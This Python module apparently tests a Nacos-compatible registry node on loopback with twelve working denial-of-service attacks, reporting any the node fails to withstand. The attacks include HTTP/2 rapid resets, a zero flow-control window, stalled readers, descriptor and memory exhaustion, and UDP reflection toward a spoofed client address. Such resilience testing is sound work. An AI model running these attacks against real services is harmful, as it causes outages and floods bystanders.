"""What one attacker with one machine may do to a node on loopback. Each attack ends by itself and may
return a text that says what was wrong."""

import asyncio
import concurrent.futures
import json
import os
import socket
import struct
from urllib.parse import quote

from grpc_wire import (
    CALL_HEADERS, DATA, END_HEADERS, END_STREAM, HEADERS, OPENING, PREFACE, RST_STREAM, SETTINGS,
    STREAM_HEADERS, connect_sdk, frame, payload,
)
from wire import ask, request

NS = "/nacos/v1/ns"
# Of services that lists are long of.
BIG = 20_000
MIDDLE = 5_000
FILL_CONNECTIONS = 64


def send_all(port, messages):
    """Many requests on one connection, pipelined. @returns how many were answered with 200"""
    count = 0
    with socket.create_connection(("127.0.0.1", port)) as sock:
        for at in range(0, len(messages), 200):
            part = messages[at : at + 200]
            sock.sendall(b"".join(part))
            answers = b""
            while answers.count(b"HTTP/1.1 ") < len(part):
                data = sock.recv(1 << 20)
                if not data:
                    raise ConnectionError("the node closed the connection")
                answers += data
            count += answers.count(b"HTTP/1.1 200")
    return count


def fill(node, service, count, form="ephemeral=false"):
    """Over many connections, since each registration waits for the disk."""
    form = f"{NS}/instance?serviceName={service}&{form}"
    messages = [
        request("POST", f"{form}&ip=10.{i >> 16}.{i >> 8 & 255}.{i & 255}&port=80")
        for i in range(count)
    ]
    parts = [messages[i::FILL_CONNECTIONS] for i in range(FILL_CONNECTIONS)]
    with concurrent.futures.ThreadPoolExecutor(FILL_CONNECTIONS) as pool:
        list(pool.map(lambda part: send_all(node.port, part), parts))


def node_cpu(node):
    words = (node.proc / "stat").read_text().rpartition(")")[2].split()
    return (int(words[11]) + int(words[12])) / os.sysconf("SC_CLK_TCK")


async def many_clusters(node):
    """A query with as many names as fit, again and again, over HTTP and gRPC."""
    names = ",".join("x" for _ in range(3_500))
    for _ in range(20):
        answer = await ask(node.port, "GET", f"{NS}/instance/list?serviceName=big&clusters={names}")
        if answer.status != 400:
            return f"HTTP: {answer.status}"
    client = await connect_sdk(node.sdk_port)
    await client.call("HealthCheckRequest", {})  # a request as long as this does not wait for it
    query = {"serviceName": "big", "cluster": ",".join("y" for _ in range(7_000))}
    for kind in ("ServiceQueryRequest", "SubscribeServiceRequest"):
        kind, body = await client.call(kind, {**query, "clusters": query["cluster"], "subscribe": True})
        if body.get("resultCode") != 500 or "clusters" not in body.get("message", ""):
            return f"gRPC: {kind} {str(body)[:200]}"
    client.close()


async def deaf_http(node):
    """200 clients that ask for a long list, each with clusters of its own, and read nothing."""
    socks = []
    for i in range(200):
        sock = socket.create_connection(("127.0.0.1", node.port))
        sock.sendall(request("GET", f"{NS}/instance/list?serviceName=big&clusters=DEFAULT,x{i}"))
        socks.append(sock)
    await asyncio.sleep(5)
    for sock in socks:
        sock.close()


async def deaf_grpc(node):
    clients = []
    for i in range(200):
        client = await connect_sdk(node.sdk_port)
        await client.call("HealthCheckRequest", {})
        client.transport.pause_reading()
        client.begin_call("ServiceQueryRequest", {"serviceName": "big", "cluster": f"DEFAULT,x{i}"})
        clients.append(client)
    await asyncio.sleep(5)
    for client in clients:
        client.reset()


def sdk_bytes(opening):
    """A registered client, by hand: its streams 1 and 3."""
    setup = {"clientVersion": "x", "labels": {"module": "naming"}}
    return (
        opening
        + frame(HEADERS, END_HEADERS, 1, CALL_HEADERS)
        + frame(DATA, END_STREAM, 1, payload("ServerCheckRequest", {}))
        + frame(HEADERS, END_HEADERS, 3, STREAM_HEADERS)
        + frame(DATA, 0, 3, payload("ConnectionSetupRequest", setup))
    )


async def zero_window(node):
    """One connection that opens no window asks for 300 long lists, and reads all else."""
    loop = asyncio.get_running_loop()
    sock = socket.create_connection(("127.0.0.1", node.sdk_port))
    sock.setblocking(False)
    no_window = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    await loop.sock_sendall(sock, sdk_bytes(no_window))
    await asyncio.sleep(0.5)
    for i in range(300):
        query = payload("ServiceQueryRequest", {"serviceName": "big", "cluster": f"DEFAULT,x{i}"})
        stream = 5 + 2 * i
        await loop.sock_sendall(
            sock, frame(HEADERS, END_HEADERS, stream, CALL_HEADERS) + frame(DATA, END_STREAM, stream, query)
        )
    await asyncio.sleep(5)
    sock.close()


async def half_messages(node):
    """60 messages of 9 MB that lack their last byte, on a connection that never registers."""
    loop = asyncio.get_running_loop()
    sock = socket.create_connection(("127.0.0.1", node.sdk_port))
    sock.setblocking(False)
    head = b"\x00" + struct.pack(">I", 9_000_000)
    part = b"x" * 16_000

    async def drain():
        while await loop.sock_recv(sock, 65536):
            pass

    reader = asyncio.create_task(drain())
    try:
        await loop.sock_sendall(sock, OPENING)
        for i in range(60):
            stream = 1 + 2 * i
            await loop.sock_sendall(sock, frame(HEADERS, END_HEADERS, stream, CALL_HEADERS))
            await loop.sock_sendall(sock, frame(DATA, 0, stream, head))
            for _ in range(9_000_000 // len(part)):
                await loop.sock_sendall(sock, frame(DATA, 0, stream, part))
        await asyncio.sleep(3)
    except OSError:
        pass  # it was ended, which is fine
    reader.cancel()
    sock.close()


async def rapid_resets(node):
    """Queries that are taken back as soon as they are asked, as fast as they are read."""
    loop = asyncio.get_running_loop()
    query = payload("ServiceQueryRequest", {"serviceName": "big"})
    for _ in range(5):
        sock = socket.create_connection(("127.0.0.1", node.sdk_port))
        sock.setblocking(False)
        try:
            await loop.sock_sendall(sock, sdk_bytes(OPENING))
            for stream in range(5, 20_000, 2):
                await loop.sock_sendall(
                    sock,
                    frame(HEADERS, END_HEADERS, stream, CALL_HEADERS)
                    + frame(DATA, END_STREAM, stream, query)
                    + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"),
                )
        except OSError:
            pass  # it was ended, which is fine
        sock.close()


async def growing_overrides(node):
    """Small calls that each add to the metadata of all instances of a service."""
    for i in range(40):
        metadata = quote(json.dumps({f"k{i}": "v" * 900}))
        await ask(node.port, "PUT", f"{NS}/instance/metadata/batch?serviceName=DEFAULT_GROUP@@middle&metadata={metadata}")


async def watch_of_everything(node):
    client = await connect_sdk(node.sdk_port)
    await client.call("HealthCheckRequest", {})
    keys = [f"public@@DEFAULT_GROUP@@x{i}" for i in range(1_500)]
    for _ in range(20):
        await client.call(
            "NamingFuzzyWatchRequest",
            {"watchType": "WATCH", "groupKeyPattern": "public>>DEFAULT_GROUP>>none*",
             "receivedGroupKeys": keys, "initializing": True},
        )
    client.close()


async def namespaces(node):
    """Each costs as much as the one before, however many there are."""
    used = []
    for first in range(0, 9_000, 1_000):
        cpu = node_cpu(node)
        messages = [
            request("POST", f"/nacos/v1/console/namespaces?customNamespaceId=n{i}&namespaceName=n")
            for i in range(first, first + 1_000)
        ]
        await asyncio.to_thread(send_all, node.port, messages)
        used.append(node_cpu(node) - cpu)
    if sum(used[-3:]) > 2 * sum(used[:3]):
        return f"processor time of 1,000 namespaces each: {' '.join(f'{x:.2f}' for x in used)} s"


async def idle_connections(node):
    """More connections than the node has descriptors for, which say nothing."""
    socks = []
    for _ in range(1_100):
        try:
            socks.append(socket.create_connection(("127.0.0.1", node.port), 2))
        except OSError:
            break
    for _ in range(20):
        answer = await ask(node.port, "GET", "/nacos/v1/console/health/liveness")
        if answer.status != 200:
            return f"others get {answer.status}"
    for sock in socks:
        sock.close()


async def datagrams_for_others(node):
    """Queries that name an address which never asked, and changes that make pushes."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as victim:
        victim.bind(("127.0.0.9", 0))
        victim.setblocking(False)
        port = victim.getsockname()[1]
        agent = ["User-Agent: Nacos-Java-Client:v1.4.2"]
        for service in ("big", "middle", "bystander"):
            target = f"{NS}/instance/list?serviceName={service}&clientIP=127.0.0.9&udpPort={port}"
            await ask(node.port, "GET", target, headers=agent)
        for i in range(8):
            await ask(node.port, "POST", f"{NS}/instance?serviceName=bystander&ip=10.1.0.{i}&port=1")
            await asyncio.sleep(0.6)
        got = []
        while True:
            try:
                got.append(len(victim.recv(65536)))
            except BlockingIOError:
                break
    if len(got) > 2 or max(got, default=0) > 1_200:
        return f"datagrams of {got} bytes"


async def instances_without_end(node):
    """Registrations of greatest length: the budget of memory ends them, and refuses connections."""
    form = f"{NS}/instance?serviceName=DEFAULT_GROUP@@greedy&port=80"
    messages = [
        request("POST", f"{form}&ip=10.9.{i >> 8}.{i & 255}&metadata=" + quote(json.dumps({"k": f"{i:0>900}"})))
        for i in range(60_000)
    ]
    taken = await asyncio.to_thread(send_all, node.port, messages)
    if taken == len(messages):
        return "all were taken"
    if not 0 < (await memory_limit(node))["refused"] <= len(messages) - taken:
        return "what is refused is not counted"
    try:
        client = await connect_sdk(node.sdk_port)
        kind, _ = await client.call("HealthCheckRequest", {})
    except Exception:  # noqa: BLE001: however it is refused
        return None
    client.close()
    return "a gRPC connection was taken" if kind == "HealthCheckResponse" else None


async def memory_limit(node):
    answer = await ask(node.port, "GET", "/nacre/admin/limits")
    limits = json.loads(answer.body)["limits"]
    return next(x for x in limits if x["key"] == "nacre.limits.memory-bytes")


ATTACKS = [many_clusters, deaf_http, deaf_grpc, zero_window, half_messages, rapid_resets,
           growing_overrides, watch_of_everything, namespaces,
           idle_connections, datagrams_for_others, instances_without_end]
